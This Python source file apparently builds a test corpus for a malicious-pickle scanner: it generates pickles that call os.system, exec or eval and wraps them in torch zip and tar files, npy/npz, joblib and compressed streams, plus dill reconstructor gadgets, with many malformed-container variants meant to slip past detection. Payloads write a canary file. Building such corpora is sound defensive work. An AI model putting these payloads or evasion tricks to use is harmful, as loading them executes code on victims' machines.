"""Hostile files that are no bare pickle: containers, some of which lie, and dill's own reconstructors."""

import bz2
import gzip
import io
import lzma
import marshal
import pickle
import tarfile
import zipfile
import zlib

from assemble import (
    BUILD,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    NONE,
    POP,
    REDUCE,
    STOP,
    Raw,
    call,
    frame,
    global_,
    named_call,
    proto,
    stack_global,
    value,
)
from gadgets import CODE, COMMAND, EXECUTING

HOSTILE = named_call('os', 'system', COMMAND) + STOP
HOSTILE2 = proto(2) + HOSTILE
HOSTILE4 = proto(4) + frame(stack_global('os', 'system') + value((COMMAND,)) + REDUCE + STOP)
BENIGN = pickle.dumps({'weights': [1.0, 2.0], 'name': 'benign'}, 2)


# ---- zip ----


def zipped(members, compression=zipfile.ZIP_STORED, comment=b''):
    file = io.BytesIO()
    with zipfile.ZipFile(file, 'w', compression) as archive:
        archive.comment = comment
        for name, payload in members:
            archive.writestr(zipfile.ZipInfo(name), payload, compression)
    return file.getvalue()


def torch_zip(payload, folder='archive', compression=zipfile.ZIP_STORED, extra=()):
    members = [
        (f'{folder}/data.pkl', payload),
        (f'{folder}/byteorder', b'little'),
        *extra,
        (f'{folder}/version', b'3\n'),
    ]
    return zipped(members, compression)


def patched(archive, local=None, central=None, which=0):
    """Writes bytes into local and central headers: {offset in the header: bytes}."""
    data = bytearray(archive)
    for signature, changes in ((b'PK\x03\x04', local), (b'PK\x01\x02', central)):
        if changes:
            at = -1
            for _ in range(which + 1):
                at = data.index(signature, at + 1)
            for offset, content in changes.items():
                data[at + offset : at + offset + len(content)] = content
    return bytes(data)


def npy(payload, version=1, shape='(1,)'):
    header = f"{{'descr': '|O', 'fortran_order': False, 'shape': {shape}, }}".encode()
    size = 2 if version == 1 else 4
    header += b' ' * (-(len(header) + 9 + size) % 64) + b'\n'
    return b'\x93NUMPY' + bytes([version, 0]) + len(header).to_bytes(size, 'little') + header + payload


def object_array(item):
    """The pickle of an object array of one item: numpy's own reconstruction."""
    array = named_call('numpy._core.multiarray', '_reconstruct', Raw(global_('numpy', 'ndarray')), (0,), b'b')
    dtype = named_call('numpy', 'dtype', 'O8', False, True)
    return proto(2) + array + value((1, (1,), dtype, False, [Raw(item)])) + BUILD + STOP


def zips():
    for name, payload in (('protocol 0', HOSTILE), ('protocol 2', HOSTILE2), ('protocol 4', HOSTILE4)):
        yield f'torch, {name}', torch_zip(payload), '.pt'
    for folder in ('archive', 'model', 'a/b', 'ünïcode', 'x' * 200):
        yield f'torch, folder {folder[:10]}', torch_zip(HOSTILE2, folder), '.pt'
    for extension in ('.pth', '.bin', '.ckpt', '.jpg', '.safetensors', ''):
        yield f'torch, named {extension}', torch_zip(HOSTILE2), extension
    for how in (zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        yield f'members compressed by {how}', zipped([('data.pkl', HOSTILE2)], how), '.zip'
        yield f'torch, compressed by {how}', torch_zip(HOSTILE2, compression=how), '.pt'
    for name in (
        'data.pkl',
        'model.bin',
        'image.png',
        'README',
        'a.txt',
        '../up.pkl',
        'a\\b.pkl',
        'x.PKL',
        '.hidden',
        'd/e/f/g',
        'weights.npy',
    ):
        yield f'member {name}', zipped([(name, HOSTILE2)]), '.zip'
    yield 'two members', zipped([('a.pkl', BENIGN), ('b.pkl', HOSTILE2)]), '.zip'
    yield 'same name twice, first', zipped([('data.pkl', HOSTILE2), ('data.pkl', BENIGN)]), '.zip'
    yield 'same name twice, second', zipped([('data.pkl', BENIGN), ('data.pkl', HOSTILE2)]), '.zip'
    whole = torch_zip(HOSTILE2)
    yield 'comment', zipped([('data.pkl', HOSTILE2)], comment=b'a comment ' * 50), '.zip'
    yield 'prefix', b'#!/bin/sh\nexit\n' + zipped([('data.pkl', HOSTILE2)]), '.zip'
    yield 'prefix of a benign pickle', BENIGN + zipped([('data.pkl', HOSTILE2)]), '.zip'
    yield 'hostile pickle before a benign zip', HOSTILE2 + zipped([('data.pkl', BENIGN)]), '.pkl'
    yield 'hostile pickle before a torch zip', HOSTILE2 + torch_zip(BENIGN), '.pt'
    yield 'encrypted flag', patched(whole, {6: b'\x01\0'}, {8: b'\x01\0'}), '.pt'
    yield 'encrypted flag, central', patched(whole, None, {8: b'\x01\0'}), '.pt'
    yield 'encrypted flag, local', patched(whole, {6: b'\x01\0'}), '.pt'
    yield 'flag 0x20', patched(whole, {6: b'\x20\0'}, {8: b'\x20\0'}), '.pt'
    yield 'wrong CRC', patched(whole, {14: b'abcd'}, {16: b'abcd'}), '.pt'
    yield 'wrong CRC, local', patched(whole, {14: b'abcd'}), '.pt'
    yield 'wrong CRC, central', patched(whole, None, {16: b'abcd'}), '.pt'
    yield 'local name differs', patched(whole, {30: b'brchive/dato.pkl'}), '.pt'
    yield 'local name is an image', patched(whole, {30: b'archive/data.png'}), '.pt'
    yield 'local sizes zero', patched(whole, {18: bytes(8)}), '.pt'
    yield 'local sizes huge', patched(whole, {18: b'\xff\xff\xff\x7f' * 2}), '.pt'
    yield 'local method differs', patched(whole, {8: b'\x63\0'}), '.pt'
    yield 'version needed', patched(whole, {4: b'\xff\xff'}, {6: b'\xff\xff'}), '.pt'
    yield 'external attributes', patched(whole, None, {38: b'\xff\xff\xff\xff'}), '.pt'
    yield 'is a folder by its attributes', patched(whole, None, {38: b'\x10\0\0\0'}), '.pt'
    yield (
        'broken member before',
        zipped([('a.bin', b'x' * 100), ('data.pkl', HOSTILE2)]).replace(b'x' * 100, b'y' * 100),
        '.zip',
    )
    yield (
        'impossible first member',
        patched(zipped([('a.bin', b'x'), ('b.pkl', HOSTILE2)]), {0: b'PK\x03\x05'}, {16: b'abcd'}),
        '.zip',
    )
    yield 'zip in zip', zipped([('inner.zip', whole)]), '.zip'
    yield 'torch in gzip', gzip.compress(whole, mtime=0), '.gz'
    yield 'extra member', torch_zip(BENIGN, extra=[('archive/data/evil.pkl', HOSTILE2)]), '.pt'
    yield 'constants.pkl', torch_zip(BENIGN, extra=[('archive/constants.pkl', HOSTILE2)]), '.pt'
    yield 'junk behind', zipped([('data.pkl', HOSTILE2)]) + b'junk' * 10, '.zip'
    yield 'two end records', zipped([('data.pkl', BENIGN)]) + zipped([('data.pkl', HOSTILE2)]), '.zip'
    yield 'npz', zipped([('a.npy', npy(HOSTILE2))]), '.npz'
    yield 'npz, deflated', zipped([('a.npy', npy(object_array(HOSTILE[:-1])))], zipfile.ZIP_DEFLATED), '.npz'
    yield 'npz, second', zipped([('a.npy', npy(BENIGN)), ('b.npy', npy(HOSTILE2))]), '.npz'
    yield 'npz, odd name', zipped([('a', npy(HOSTILE2))]), '.npz'
    yield 'npz, a member without magic', zipped([('data', HOSTILE2), ('a.npy', npy(HOSTILE4))]), '.npz'


# ---- tar ----


def tarred(members, form=tarfile.USTAR_FORMAT):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode='w', format=form) as archive:
        for name, payload in members:
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            archive.addfile(info, io.BytesIO(payload))
    return file.getvalue()


def tars():
    for form, label in ((tarfile.USTAR_FORMAT, 'ustar'), (tarfile.GNU_FORMAT, 'GNU'), (tarfile.PAX_FORMAT, 'pax')):
        yield label, tarred([('model.pkl', HOSTILE2)], form), '.tar'
        yield f'{label}, long name', tarred([('d/' * 40 + 'x' * 90, HOSTILE2)], form), '.tar'
        yield f'{label}, second member', tarred([('a.txt', b'text'), ('b.bin', HOSTILE4)], form), '.tar'
    whole = tarred([('model.pkl', HOSTILE2)])
    yield 'tar.gz', gzip.compress(whole, mtime=0), '.tgz'
    yield 'tar.bz2', bz2.compress(whole), '.tar.bz2'
    yield 'tar.xz', lzma.compress(whole), '.tar.xz'
    yield 'named .pt', whole, '.pt'
    yield 'zip in tar', tarred([('m.pt', torch_zip(HOSTILE2))]), '.tar'
    yield 'without end', whole[:1024], '.tar'
    # The oldest files of torch are tars of these three; the first one is loaded.
    parts = [('sys_info', HOSTILE2), ('pickle', BENIGN), ('storages', BENIGN), ('tensors', BENIGN)]
    for i in range(4):
        members = [(name, HOSTILE2 if i == j else pickle.dumps(0, 2)) for j, (name, _) in enumerate(parts)]
        yield f'torch tar, {members[i][0]}', tarred(members), '.pt'


# ---- one compressed stream ----


def compressed():
    ways = {
        'gzip': (lambda d: gzip.compress(d, mtime=0), '.gz'),
        'bz2': (bz2.compress, '.bz2'),
        'xz': (lzma.compress, '.xz'),
        'lzma': (lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE), '.lzma'),
        'zlib': (zlib.compress, '.z'),
    }
    for label, (compress, extension) in ways.items():
        for name, payload in (('protocol 0', HOSTILE), ('protocol 2', HOSTILE2), ('protocol 4', HOSTILE4)):
            yield f'{label}, {name}', compress(payload), extension
        yield f'{label}, no extension', compress(HOSTILE2), ''
        yield f'{label}, named .pkl', compress(HOSTILE2), '.pkl'
        yield f'{label}, large', compress(HOSTILE2 + bytes(300_000)), extension
        yield f'{label}, truncated', compress(HOSTILE2 + bytes(3000))[:-4], extension
        yield f'{label}, junk behind', compress(HOSTILE2) + b'junk', extension
        yield f'{label} in gzip', gzip.compress(compress(HOSTILE2), mtime=0), '.gz'
    yield 'gzip of two members', gzip.compress(HOSTILE2[:10], mtime=0) + gzip.compress(HOSTILE2[10:], mtime=0), '.gz'
    yield (
        'gzip with a name',
        b'\x1f\x8b\x08\x08\0\0\0\0\0\xff' + b'name.txt\0' + gzip.compress(HOSTILE2, mtime=0)[10:],
        '.gz',
    )
    yield (
        'gzip, wrong CRC',
        gzip.compress(HOSTILE2, mtime=0)[:-8] + b'abcd' + gzip.compress(HOSTILE2, mtime=0)[-4:],
        '.gz',
    )
    for level in (0, 1, 9):
        yield f'zlib level {level}', zlib.compress(HOSTILE2, level), '.z'
    yield (
        'zlib, small window',
        (lambda c: c.compress(HOSTILE2) + c.flush())(zlib.compressobj(9, zlib.DEFLATED, 9)),
        '.z',
    )
    yield 'bz2 of two streams', bz2.compress(HOSTILE2[:9]) + bz2.compress(HOSTILE2[9:]), '.bz2'
    yield 'xz of two streams', lzma.compress(HOSTILE2[:9]) + lzma.compress(HOSTILE2[9:]), '.xz'


# ---- numpy, torch before zip, joblib ----


def numpy_files():
    for version in (1, 2, 3):
        yield f'npy {version}.0', npy(HOSTILE2, version), '.npy'
        yield f'npy {version}.0, object array', npy(object_array(HOSTILE[:-1]), version), '.npy'
    yield 'npy, protocol 0', npy(HOSTILE), '.npy'
    yield 'npy, protocol 4', npy(HOSTILE4), '.npy'
    yield 'npy, named .pkl', npy(HOSTILE2), '.pkl'
    yield 'npy, no extension', npy(HOSTILE2), ''
    yield 'npy, two', npy(BENIGN) + npy(HOSTILE2), '.npy'
    yield 'npy in gzip', gzip.compress(npy(HOSTILE2), mtime=0), '.gz'
    yield 'npy, empty shape', npy(HOSTILE2, 1, '()'), '.npy'
    header = npy(HOSTILE2).replace(b"'|O'", b"'O' ")
    yield 'npy, other descr', header, '.npy'
    yield 'numpy by pickle', object_array(HOSTILE[:-1]), '.pkl'


def legacy_torch(place):
    magic = [pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {'little_endian': True}, {'a': 1}, [])]
    magic[place] = HOSTILE2
    return b''.join(magic)


def raw_array():
    """A joblib array: its bytes stand between the opcodes. They are STOPs, so that only joblib reads on."""
    dtype = named_call('numpy', 'dtype', 'u1', False, True)
    state = {
        'subclass': Raw(global_('numpy', 'ndarray')),
        'shape': (8,),
        'order': 'C',
        'dtype': dtype,
        'allow_mmap': False,
        'numpy_array_alignment_bytes': None,
    }
    wrapper = global_('joblib.numpy_pickle', 'NumpyArrayWrapper') + EMPTY_TUPLE + NEWOBJ
    return wrapper + value(state) + BUILD + b'.' * 8


def joblib_files():
    hidden = proto(3) + EMPTY_LIST + MARK + raw_array() + HOSTILE[:-1] + b'e' + STOP
    yield 'plain', HOSTILE2, '.joblib'
    yield 'behind a raw array', hidden, '.joblib'
    yield (
        'between raw arrays',
        proto(3) + EMPTY_LIST + MARK + raw_array() + HOSTILE[:-1] + raw_array() + b'e' + STOP,
        '.joblib',
    )
    yield (
        'behind three raw arrays',
        proto(3) + EMPTY_LIST + MARK + raw_array() * 3 + HOSTILE[:-1] + b'e' + STOP,
        '.joblib',
    )
    yield 'before a raw array', proto(3) + EMPTY_LIST + MARK + HOSTILE[:-1] + raw_array() + b'e' + STOP, '.joblib'
    for compress, extension in (
        (zlib.compress, '.z'),
        (lambda d: gzip.compress(d, mtime=0), '.gz'),
        (bz2.compress, '.bz2'),
        (lzma.compress, '.xz'),
    ):
        yield f'behind a raw array, {extension}', compress(hidden), '.joblib' + extension
    yield (
        'object array',
        proto(3) + EMPTY_LIST + MARK + raw_array() + object_array(HOSTILE[:-1])[2:-1] + b'e' + STOP,
        '.joblib',
    )
    yield (
        'wrapper of objects',
        (
            proto(3)
            + global_('joblib.numpy_pickle', 'NumpyArrayWrapper')
            + EMPTY_TUPLE
            + NEWOBJ
            + value(
                {
                    'subclass': Raw(global_('numpy', 'ndarray')),
                    'shape': (1,),
                    'order': 'C',
                    'dtype': Raw(named_call('numpy', 'dtype', 'O', False, True)),
                    'allow_mmap': False,
                }
            )
            + BUILD
            + HOSTILE2
            + STOP
        ),
        '.joblib',
    )


def torch_files():
    for place, what in enumerate(('magic', 'protocol', 'system', 'objects', 'keys')):
        yield f'legacy, {what}', legacy_torch(place), '.pt'
        yield f'legacy, {what}, named .pkl', legacy_torch(place), '.pkl'
    storage = named_call('torch.storage', '_load_from_bytes', torch_zip(HOSTILE2))
    yield '_load_from_bytes', proto(2) + storage + STOP, '.pkl'
    yield (
        '_load_from_bytes, legacy',
        proto(2) + named_call('torch.storage', '_load_from_bytes', legacy_torch(3)) + STOP,
        '.pkl',
    )
    yield (
        'torch.load of a BytesIO',
        proto(2)
        + named_call('torch.serialization', 'load', named_call('io', 'BytesIO', torch_zip(HOSTILE2)), None, None)
        + STOP,
        '.pkl',
    )
    for module, name, arguments in (
        ('torch', 'save', (1, 'canary')),
        ('torch.utils.collect_env', 'run', (COMMAND,)),
        ('torch.utils._content_store', 'os.system', (COMMAND,)),
        ('torch._inductor.codecache', 'os.system', (COMMAND,)),
    ):
        yield f'{module}.{name}', proto(4) + call(stack_global(module, name), *arguments) + STOP, '.pkl'


def library_gadgets():
    for module, name, arguments in (
        ('numpy', 'save', ('canary', [1])),
        ('numpy', 'savetxt', ('canary', [1])),
        ('numpy', 'memmap', ('canary', 'u1', 'w+', 0, (3,))),
        ('numpy.testing._private.utils', 'runstring', (CODE, {})),
        ('numpy.testing', 'runstring', (CODE, {})),
        ('numpy.f2py.capi_maps', 'eval', (CODE,)),
        ('numpy.f2py.crackfortran', 'myeval', (CODE, {'open': Raw(global_('builtins', 'open'))})),
        ('numpy', 'load', ()),
        ('joblib', 'dump', (1, 'canary')),
        ('joblib.numpy_pickle', 'dump', (1, 'canary')),
        ('joblib._store_backends', 'concurrency_safe_write', ()),
        ('joblib.func_inspect', 'os.system', (COMMAND,)),
        ('pandas.io.common', 'get_handle', ('canary', 'w')),
        ('pandas.core.computation.eval', 'eval', ('@__import__("os").system("echo > canary")',)),
        ('pandas', 'eval', ('@__builtins__',)),
        ('sklearn.datasets', 'dump_svmlight_file', ([[1.0]], [1.0], 'canary')),
        ('cloudpickle.cloudpickle', '_builtin_type', ()),
        ('cloudpickle.cloudpickle', 'subimport', ('corpus_canary',)),
        ('cloudpickle', 'cloudpickle.subimport', ('corpus_canary',)),
    ):
        if arguments:
            yield f'{module}.{name}', proto(4) + call(stack_global(module, name), *arguments) + STOP, '.pkl'


# ---- dill ----


def dill_streams():
    d = 'dill._dill'
    code = compile(CODE, 'payload', 'exec')
    yield '_eval_repr', named_call(d, '_eval_repr', CODE)
    yield '_eval_repr of an attribute', named_call(d, '_eval_repr', "__import__('os').system('echo > canary')")
    yield '_eval_repr that looks like a range', named_call(d, '_eval_repr', "range(0, len([open('canary','w')]))")
    yield '_import_module', call(named_call(d, '_import_module', 'os.system'), COMMAND)
    yield '_import_module, safe', call(named_call(d, '_import_module', 'os.system', True), COMMAND)
    yield '_import_module runs a module', named_call(d, '_import_module', 'corpus_canary')
    yield '_get_attr', call(named_call(d, '_get_attr', named_call(d, '_import_module', 'os'), 'system'), COMMAND)
    yield (
        '_getattribute',
        call(named_call('dill._dill', '_getattribute', named_call(d, '_import_module', 'os'), 'system'), COMMAND),
    )
    for mode in ('w', 'a', 'x', 'w+', 'wb'):
        yield (
            f'_create_filehandle {mode}',
            named_call(
                d, '_create_filehandle', 'canary', mode, 0, False, Raw(global_('builtins', 'open')), False, 0, ''
            ),
        )
    yield '_unmarshal', call(named_call('types', 'FunctionType', named_call(d, '_unmarshal', marshal.dumps(code)), {}))
    yield (
        '_create_function',
        call(
            named_call(
                d,
                '_create_function',
                named_call(d, '_unmarshal', marshal.dumps(code)),
                {'__builtins__': Raw(global_('builtins', '__dict__'))},
            )
        ),
    )
    yield '_create_function of code', call(named_call(d, '_create_function', code_of(code), {}))
    yield '_load_type', call(named_call(d, '_load_type', 'FunctionType'), code_of(code), {})
    yield (
        'CodeType through _load_type',
        call(
            Raw(call(named_call(d, '_load_type', 'FunctionType'), named_call(d, '_unmarshal', marshal.dumps(code)), {}))
        ),
    )
    yield (
        '_create_type',
        call(
            named_call(
                d,
                '_create_type',
                Raw(global_('builtins', 'type')),
                'Made',
                (Raw(global_('builtins', 'object')),),
                {'__init__': named_call('functools', 'partial', Raw(global_('os', 'system')), COMMAND)},
            )
        ),
    )
    yield 'dill.dill alias', named_call('dill.dill', '_eval_repr', CODE)
    yield 'dill.dill alias, _import_module', call(named_call('dill.dill', '_import_module', 'os.system'), COMMAND)
    yield '__main__ dict', named_call('builtins', 'exec', CODE, Raw(global_('__builtin__', '__main__')))
    yield 'dill.loads', named_call('dill', 'loads', HOSTILE2)
    yield 'dill.dill.loads', named_call('dill.dill', 'loads', HOSTILE2)
    yield 'dill._dill dotted', proto(4) + call(stack_global(d, 'os.system'), COMMAND)
    yield 'dill._dill.__builtin__', proto(4) + call(stack_global(d, '__builtin__.exec'), CODE)
    yield 'dill.source', proto(4) + call(stack_global('dill.source', 'exec'), CODE)
    yield 'dill._objects', proto(4) + call(stack_global('dill._objects', 'os.system'), COMMAND)
    yield 'dill.temp', named_call('dill.temp', 'dump_source', 1)
    yield 'dill.detect', proto(4) + call(stack_global('dill.detect', '_import_module'), 'corpus_canary')
    yield 'dill.session', named_call('dill.session', 'dump_module', 'canary')
    yield 'dill.pointers', proto(4) + call(stack_global('dill.pointers', '__builtins__.get'), 'exec')
    yield '_create_lock', named_call(d, '_create_lock', 0) + POP + HOSTILE[:-1]
    yield '_create_cell with payload', named_call(d, '_create_cell', named_call('os', 'system', COMMAND))
    yield '_create_weakref with payload', named_call(d, '_create_weakref', named_call('os', 'system', COMMAND))
    yield '_create_namedtuple', named_call(d, '_create_namedtuple', 'a', (), 'corpus_canary')
    yield '_locate_function', named_call('dill._dill', '_create_dtypemeta', 'int') + POP + HOSTILE[:-1]
    yield '_create_array', named_call(d, '_create_array', Raw(global_('os', 'system')), (COMMAND,))
    yield '_create_array (exec)', named_call(d, '_create_array', Raw(global_('builtins', 'exec')), (CODE,), None)
    yield '_create_partial', named_call(d, '_create_functor', Raw(global_('os', 'system')), COMMAND)
    yield '_create_stringi', named_call(d, '_create_stringi', 'a') + POP + HOSTILE[:-1]
    yield (
        '_reconstruct',
        proto(2) + call(named_call('functools', 'partial', Raw(global_('dill._dill', '_eval_repr')), CODE)),
    )


def code_of(code):
    """CodeType called with the parts of a code object of this Python."""
    parts = [
        code.co_argcount,
        code.co_posonlyargcount,
        code.co_kwonlyargcount,
        code.co_nlocals,
        code.co_stacksize,
        code.co_flags,
    ]
    parts += [code.co_code, code.co_consts, code.co_names, code.co_varnames, code.co_filename, code.co_name]
    if hasattr(code, 'co_qualname'):
        parts += [code.co_qualname, code.co_firstlineno, code.co_linetable, code.co_exceptiontable]
    else:
        parts += [code.co_firstlineno, getattr(code, 'co_linetable', b'') or code.co_lnotab]
    return named_call('types', 'CodeType', *parts, code.co_freevars, code.co_cellvars)


def samples():
    """(kind, label, content, extension, gadget)"""
    made = []
    groups = {
        'zip': zips,
        'tar': tars,
        'compressed': compressed,
        'numpy file': numpy_files,
        'joblib file': joblib_files,
        'torch file': torch_files,
    }
    for kind, group in groups.items():
        for label, content, extension in group():
            made.append((kind, label, content, extension, 'os.system'))
    for label, content, extension in library_gadgets():
        made.append(('library gadget', label, content, extension, ''))
    for label, opcodes in dill_streams():
        made.append(('dill', label, bytes(opcodes) + STOP, '.pkl', ''))
        made.append(('dill, dropped', label, bytes(opcodes) + POP + NONE + STOP, '.pkl', ''))
    for gadget in EXECUTING[:30]:
        if gadget.arguments and '.' not in gadget.name:
            payload = proto(2) + named_call(gadget.module, gadget.name, *gadget.arguments) + STOP
            made.append(('gadget in torch zip', gadget.label, torch_zip(payload), '.pt', gadget.label))
            made.append(('gadget in gzip', gadget.label, gzip.compress(payload, mtime=0), '.gz', gadget.label))
            made.append(('gadget in npy', gadget.label, npy(payload), '.npy', gadget.label))
    return made
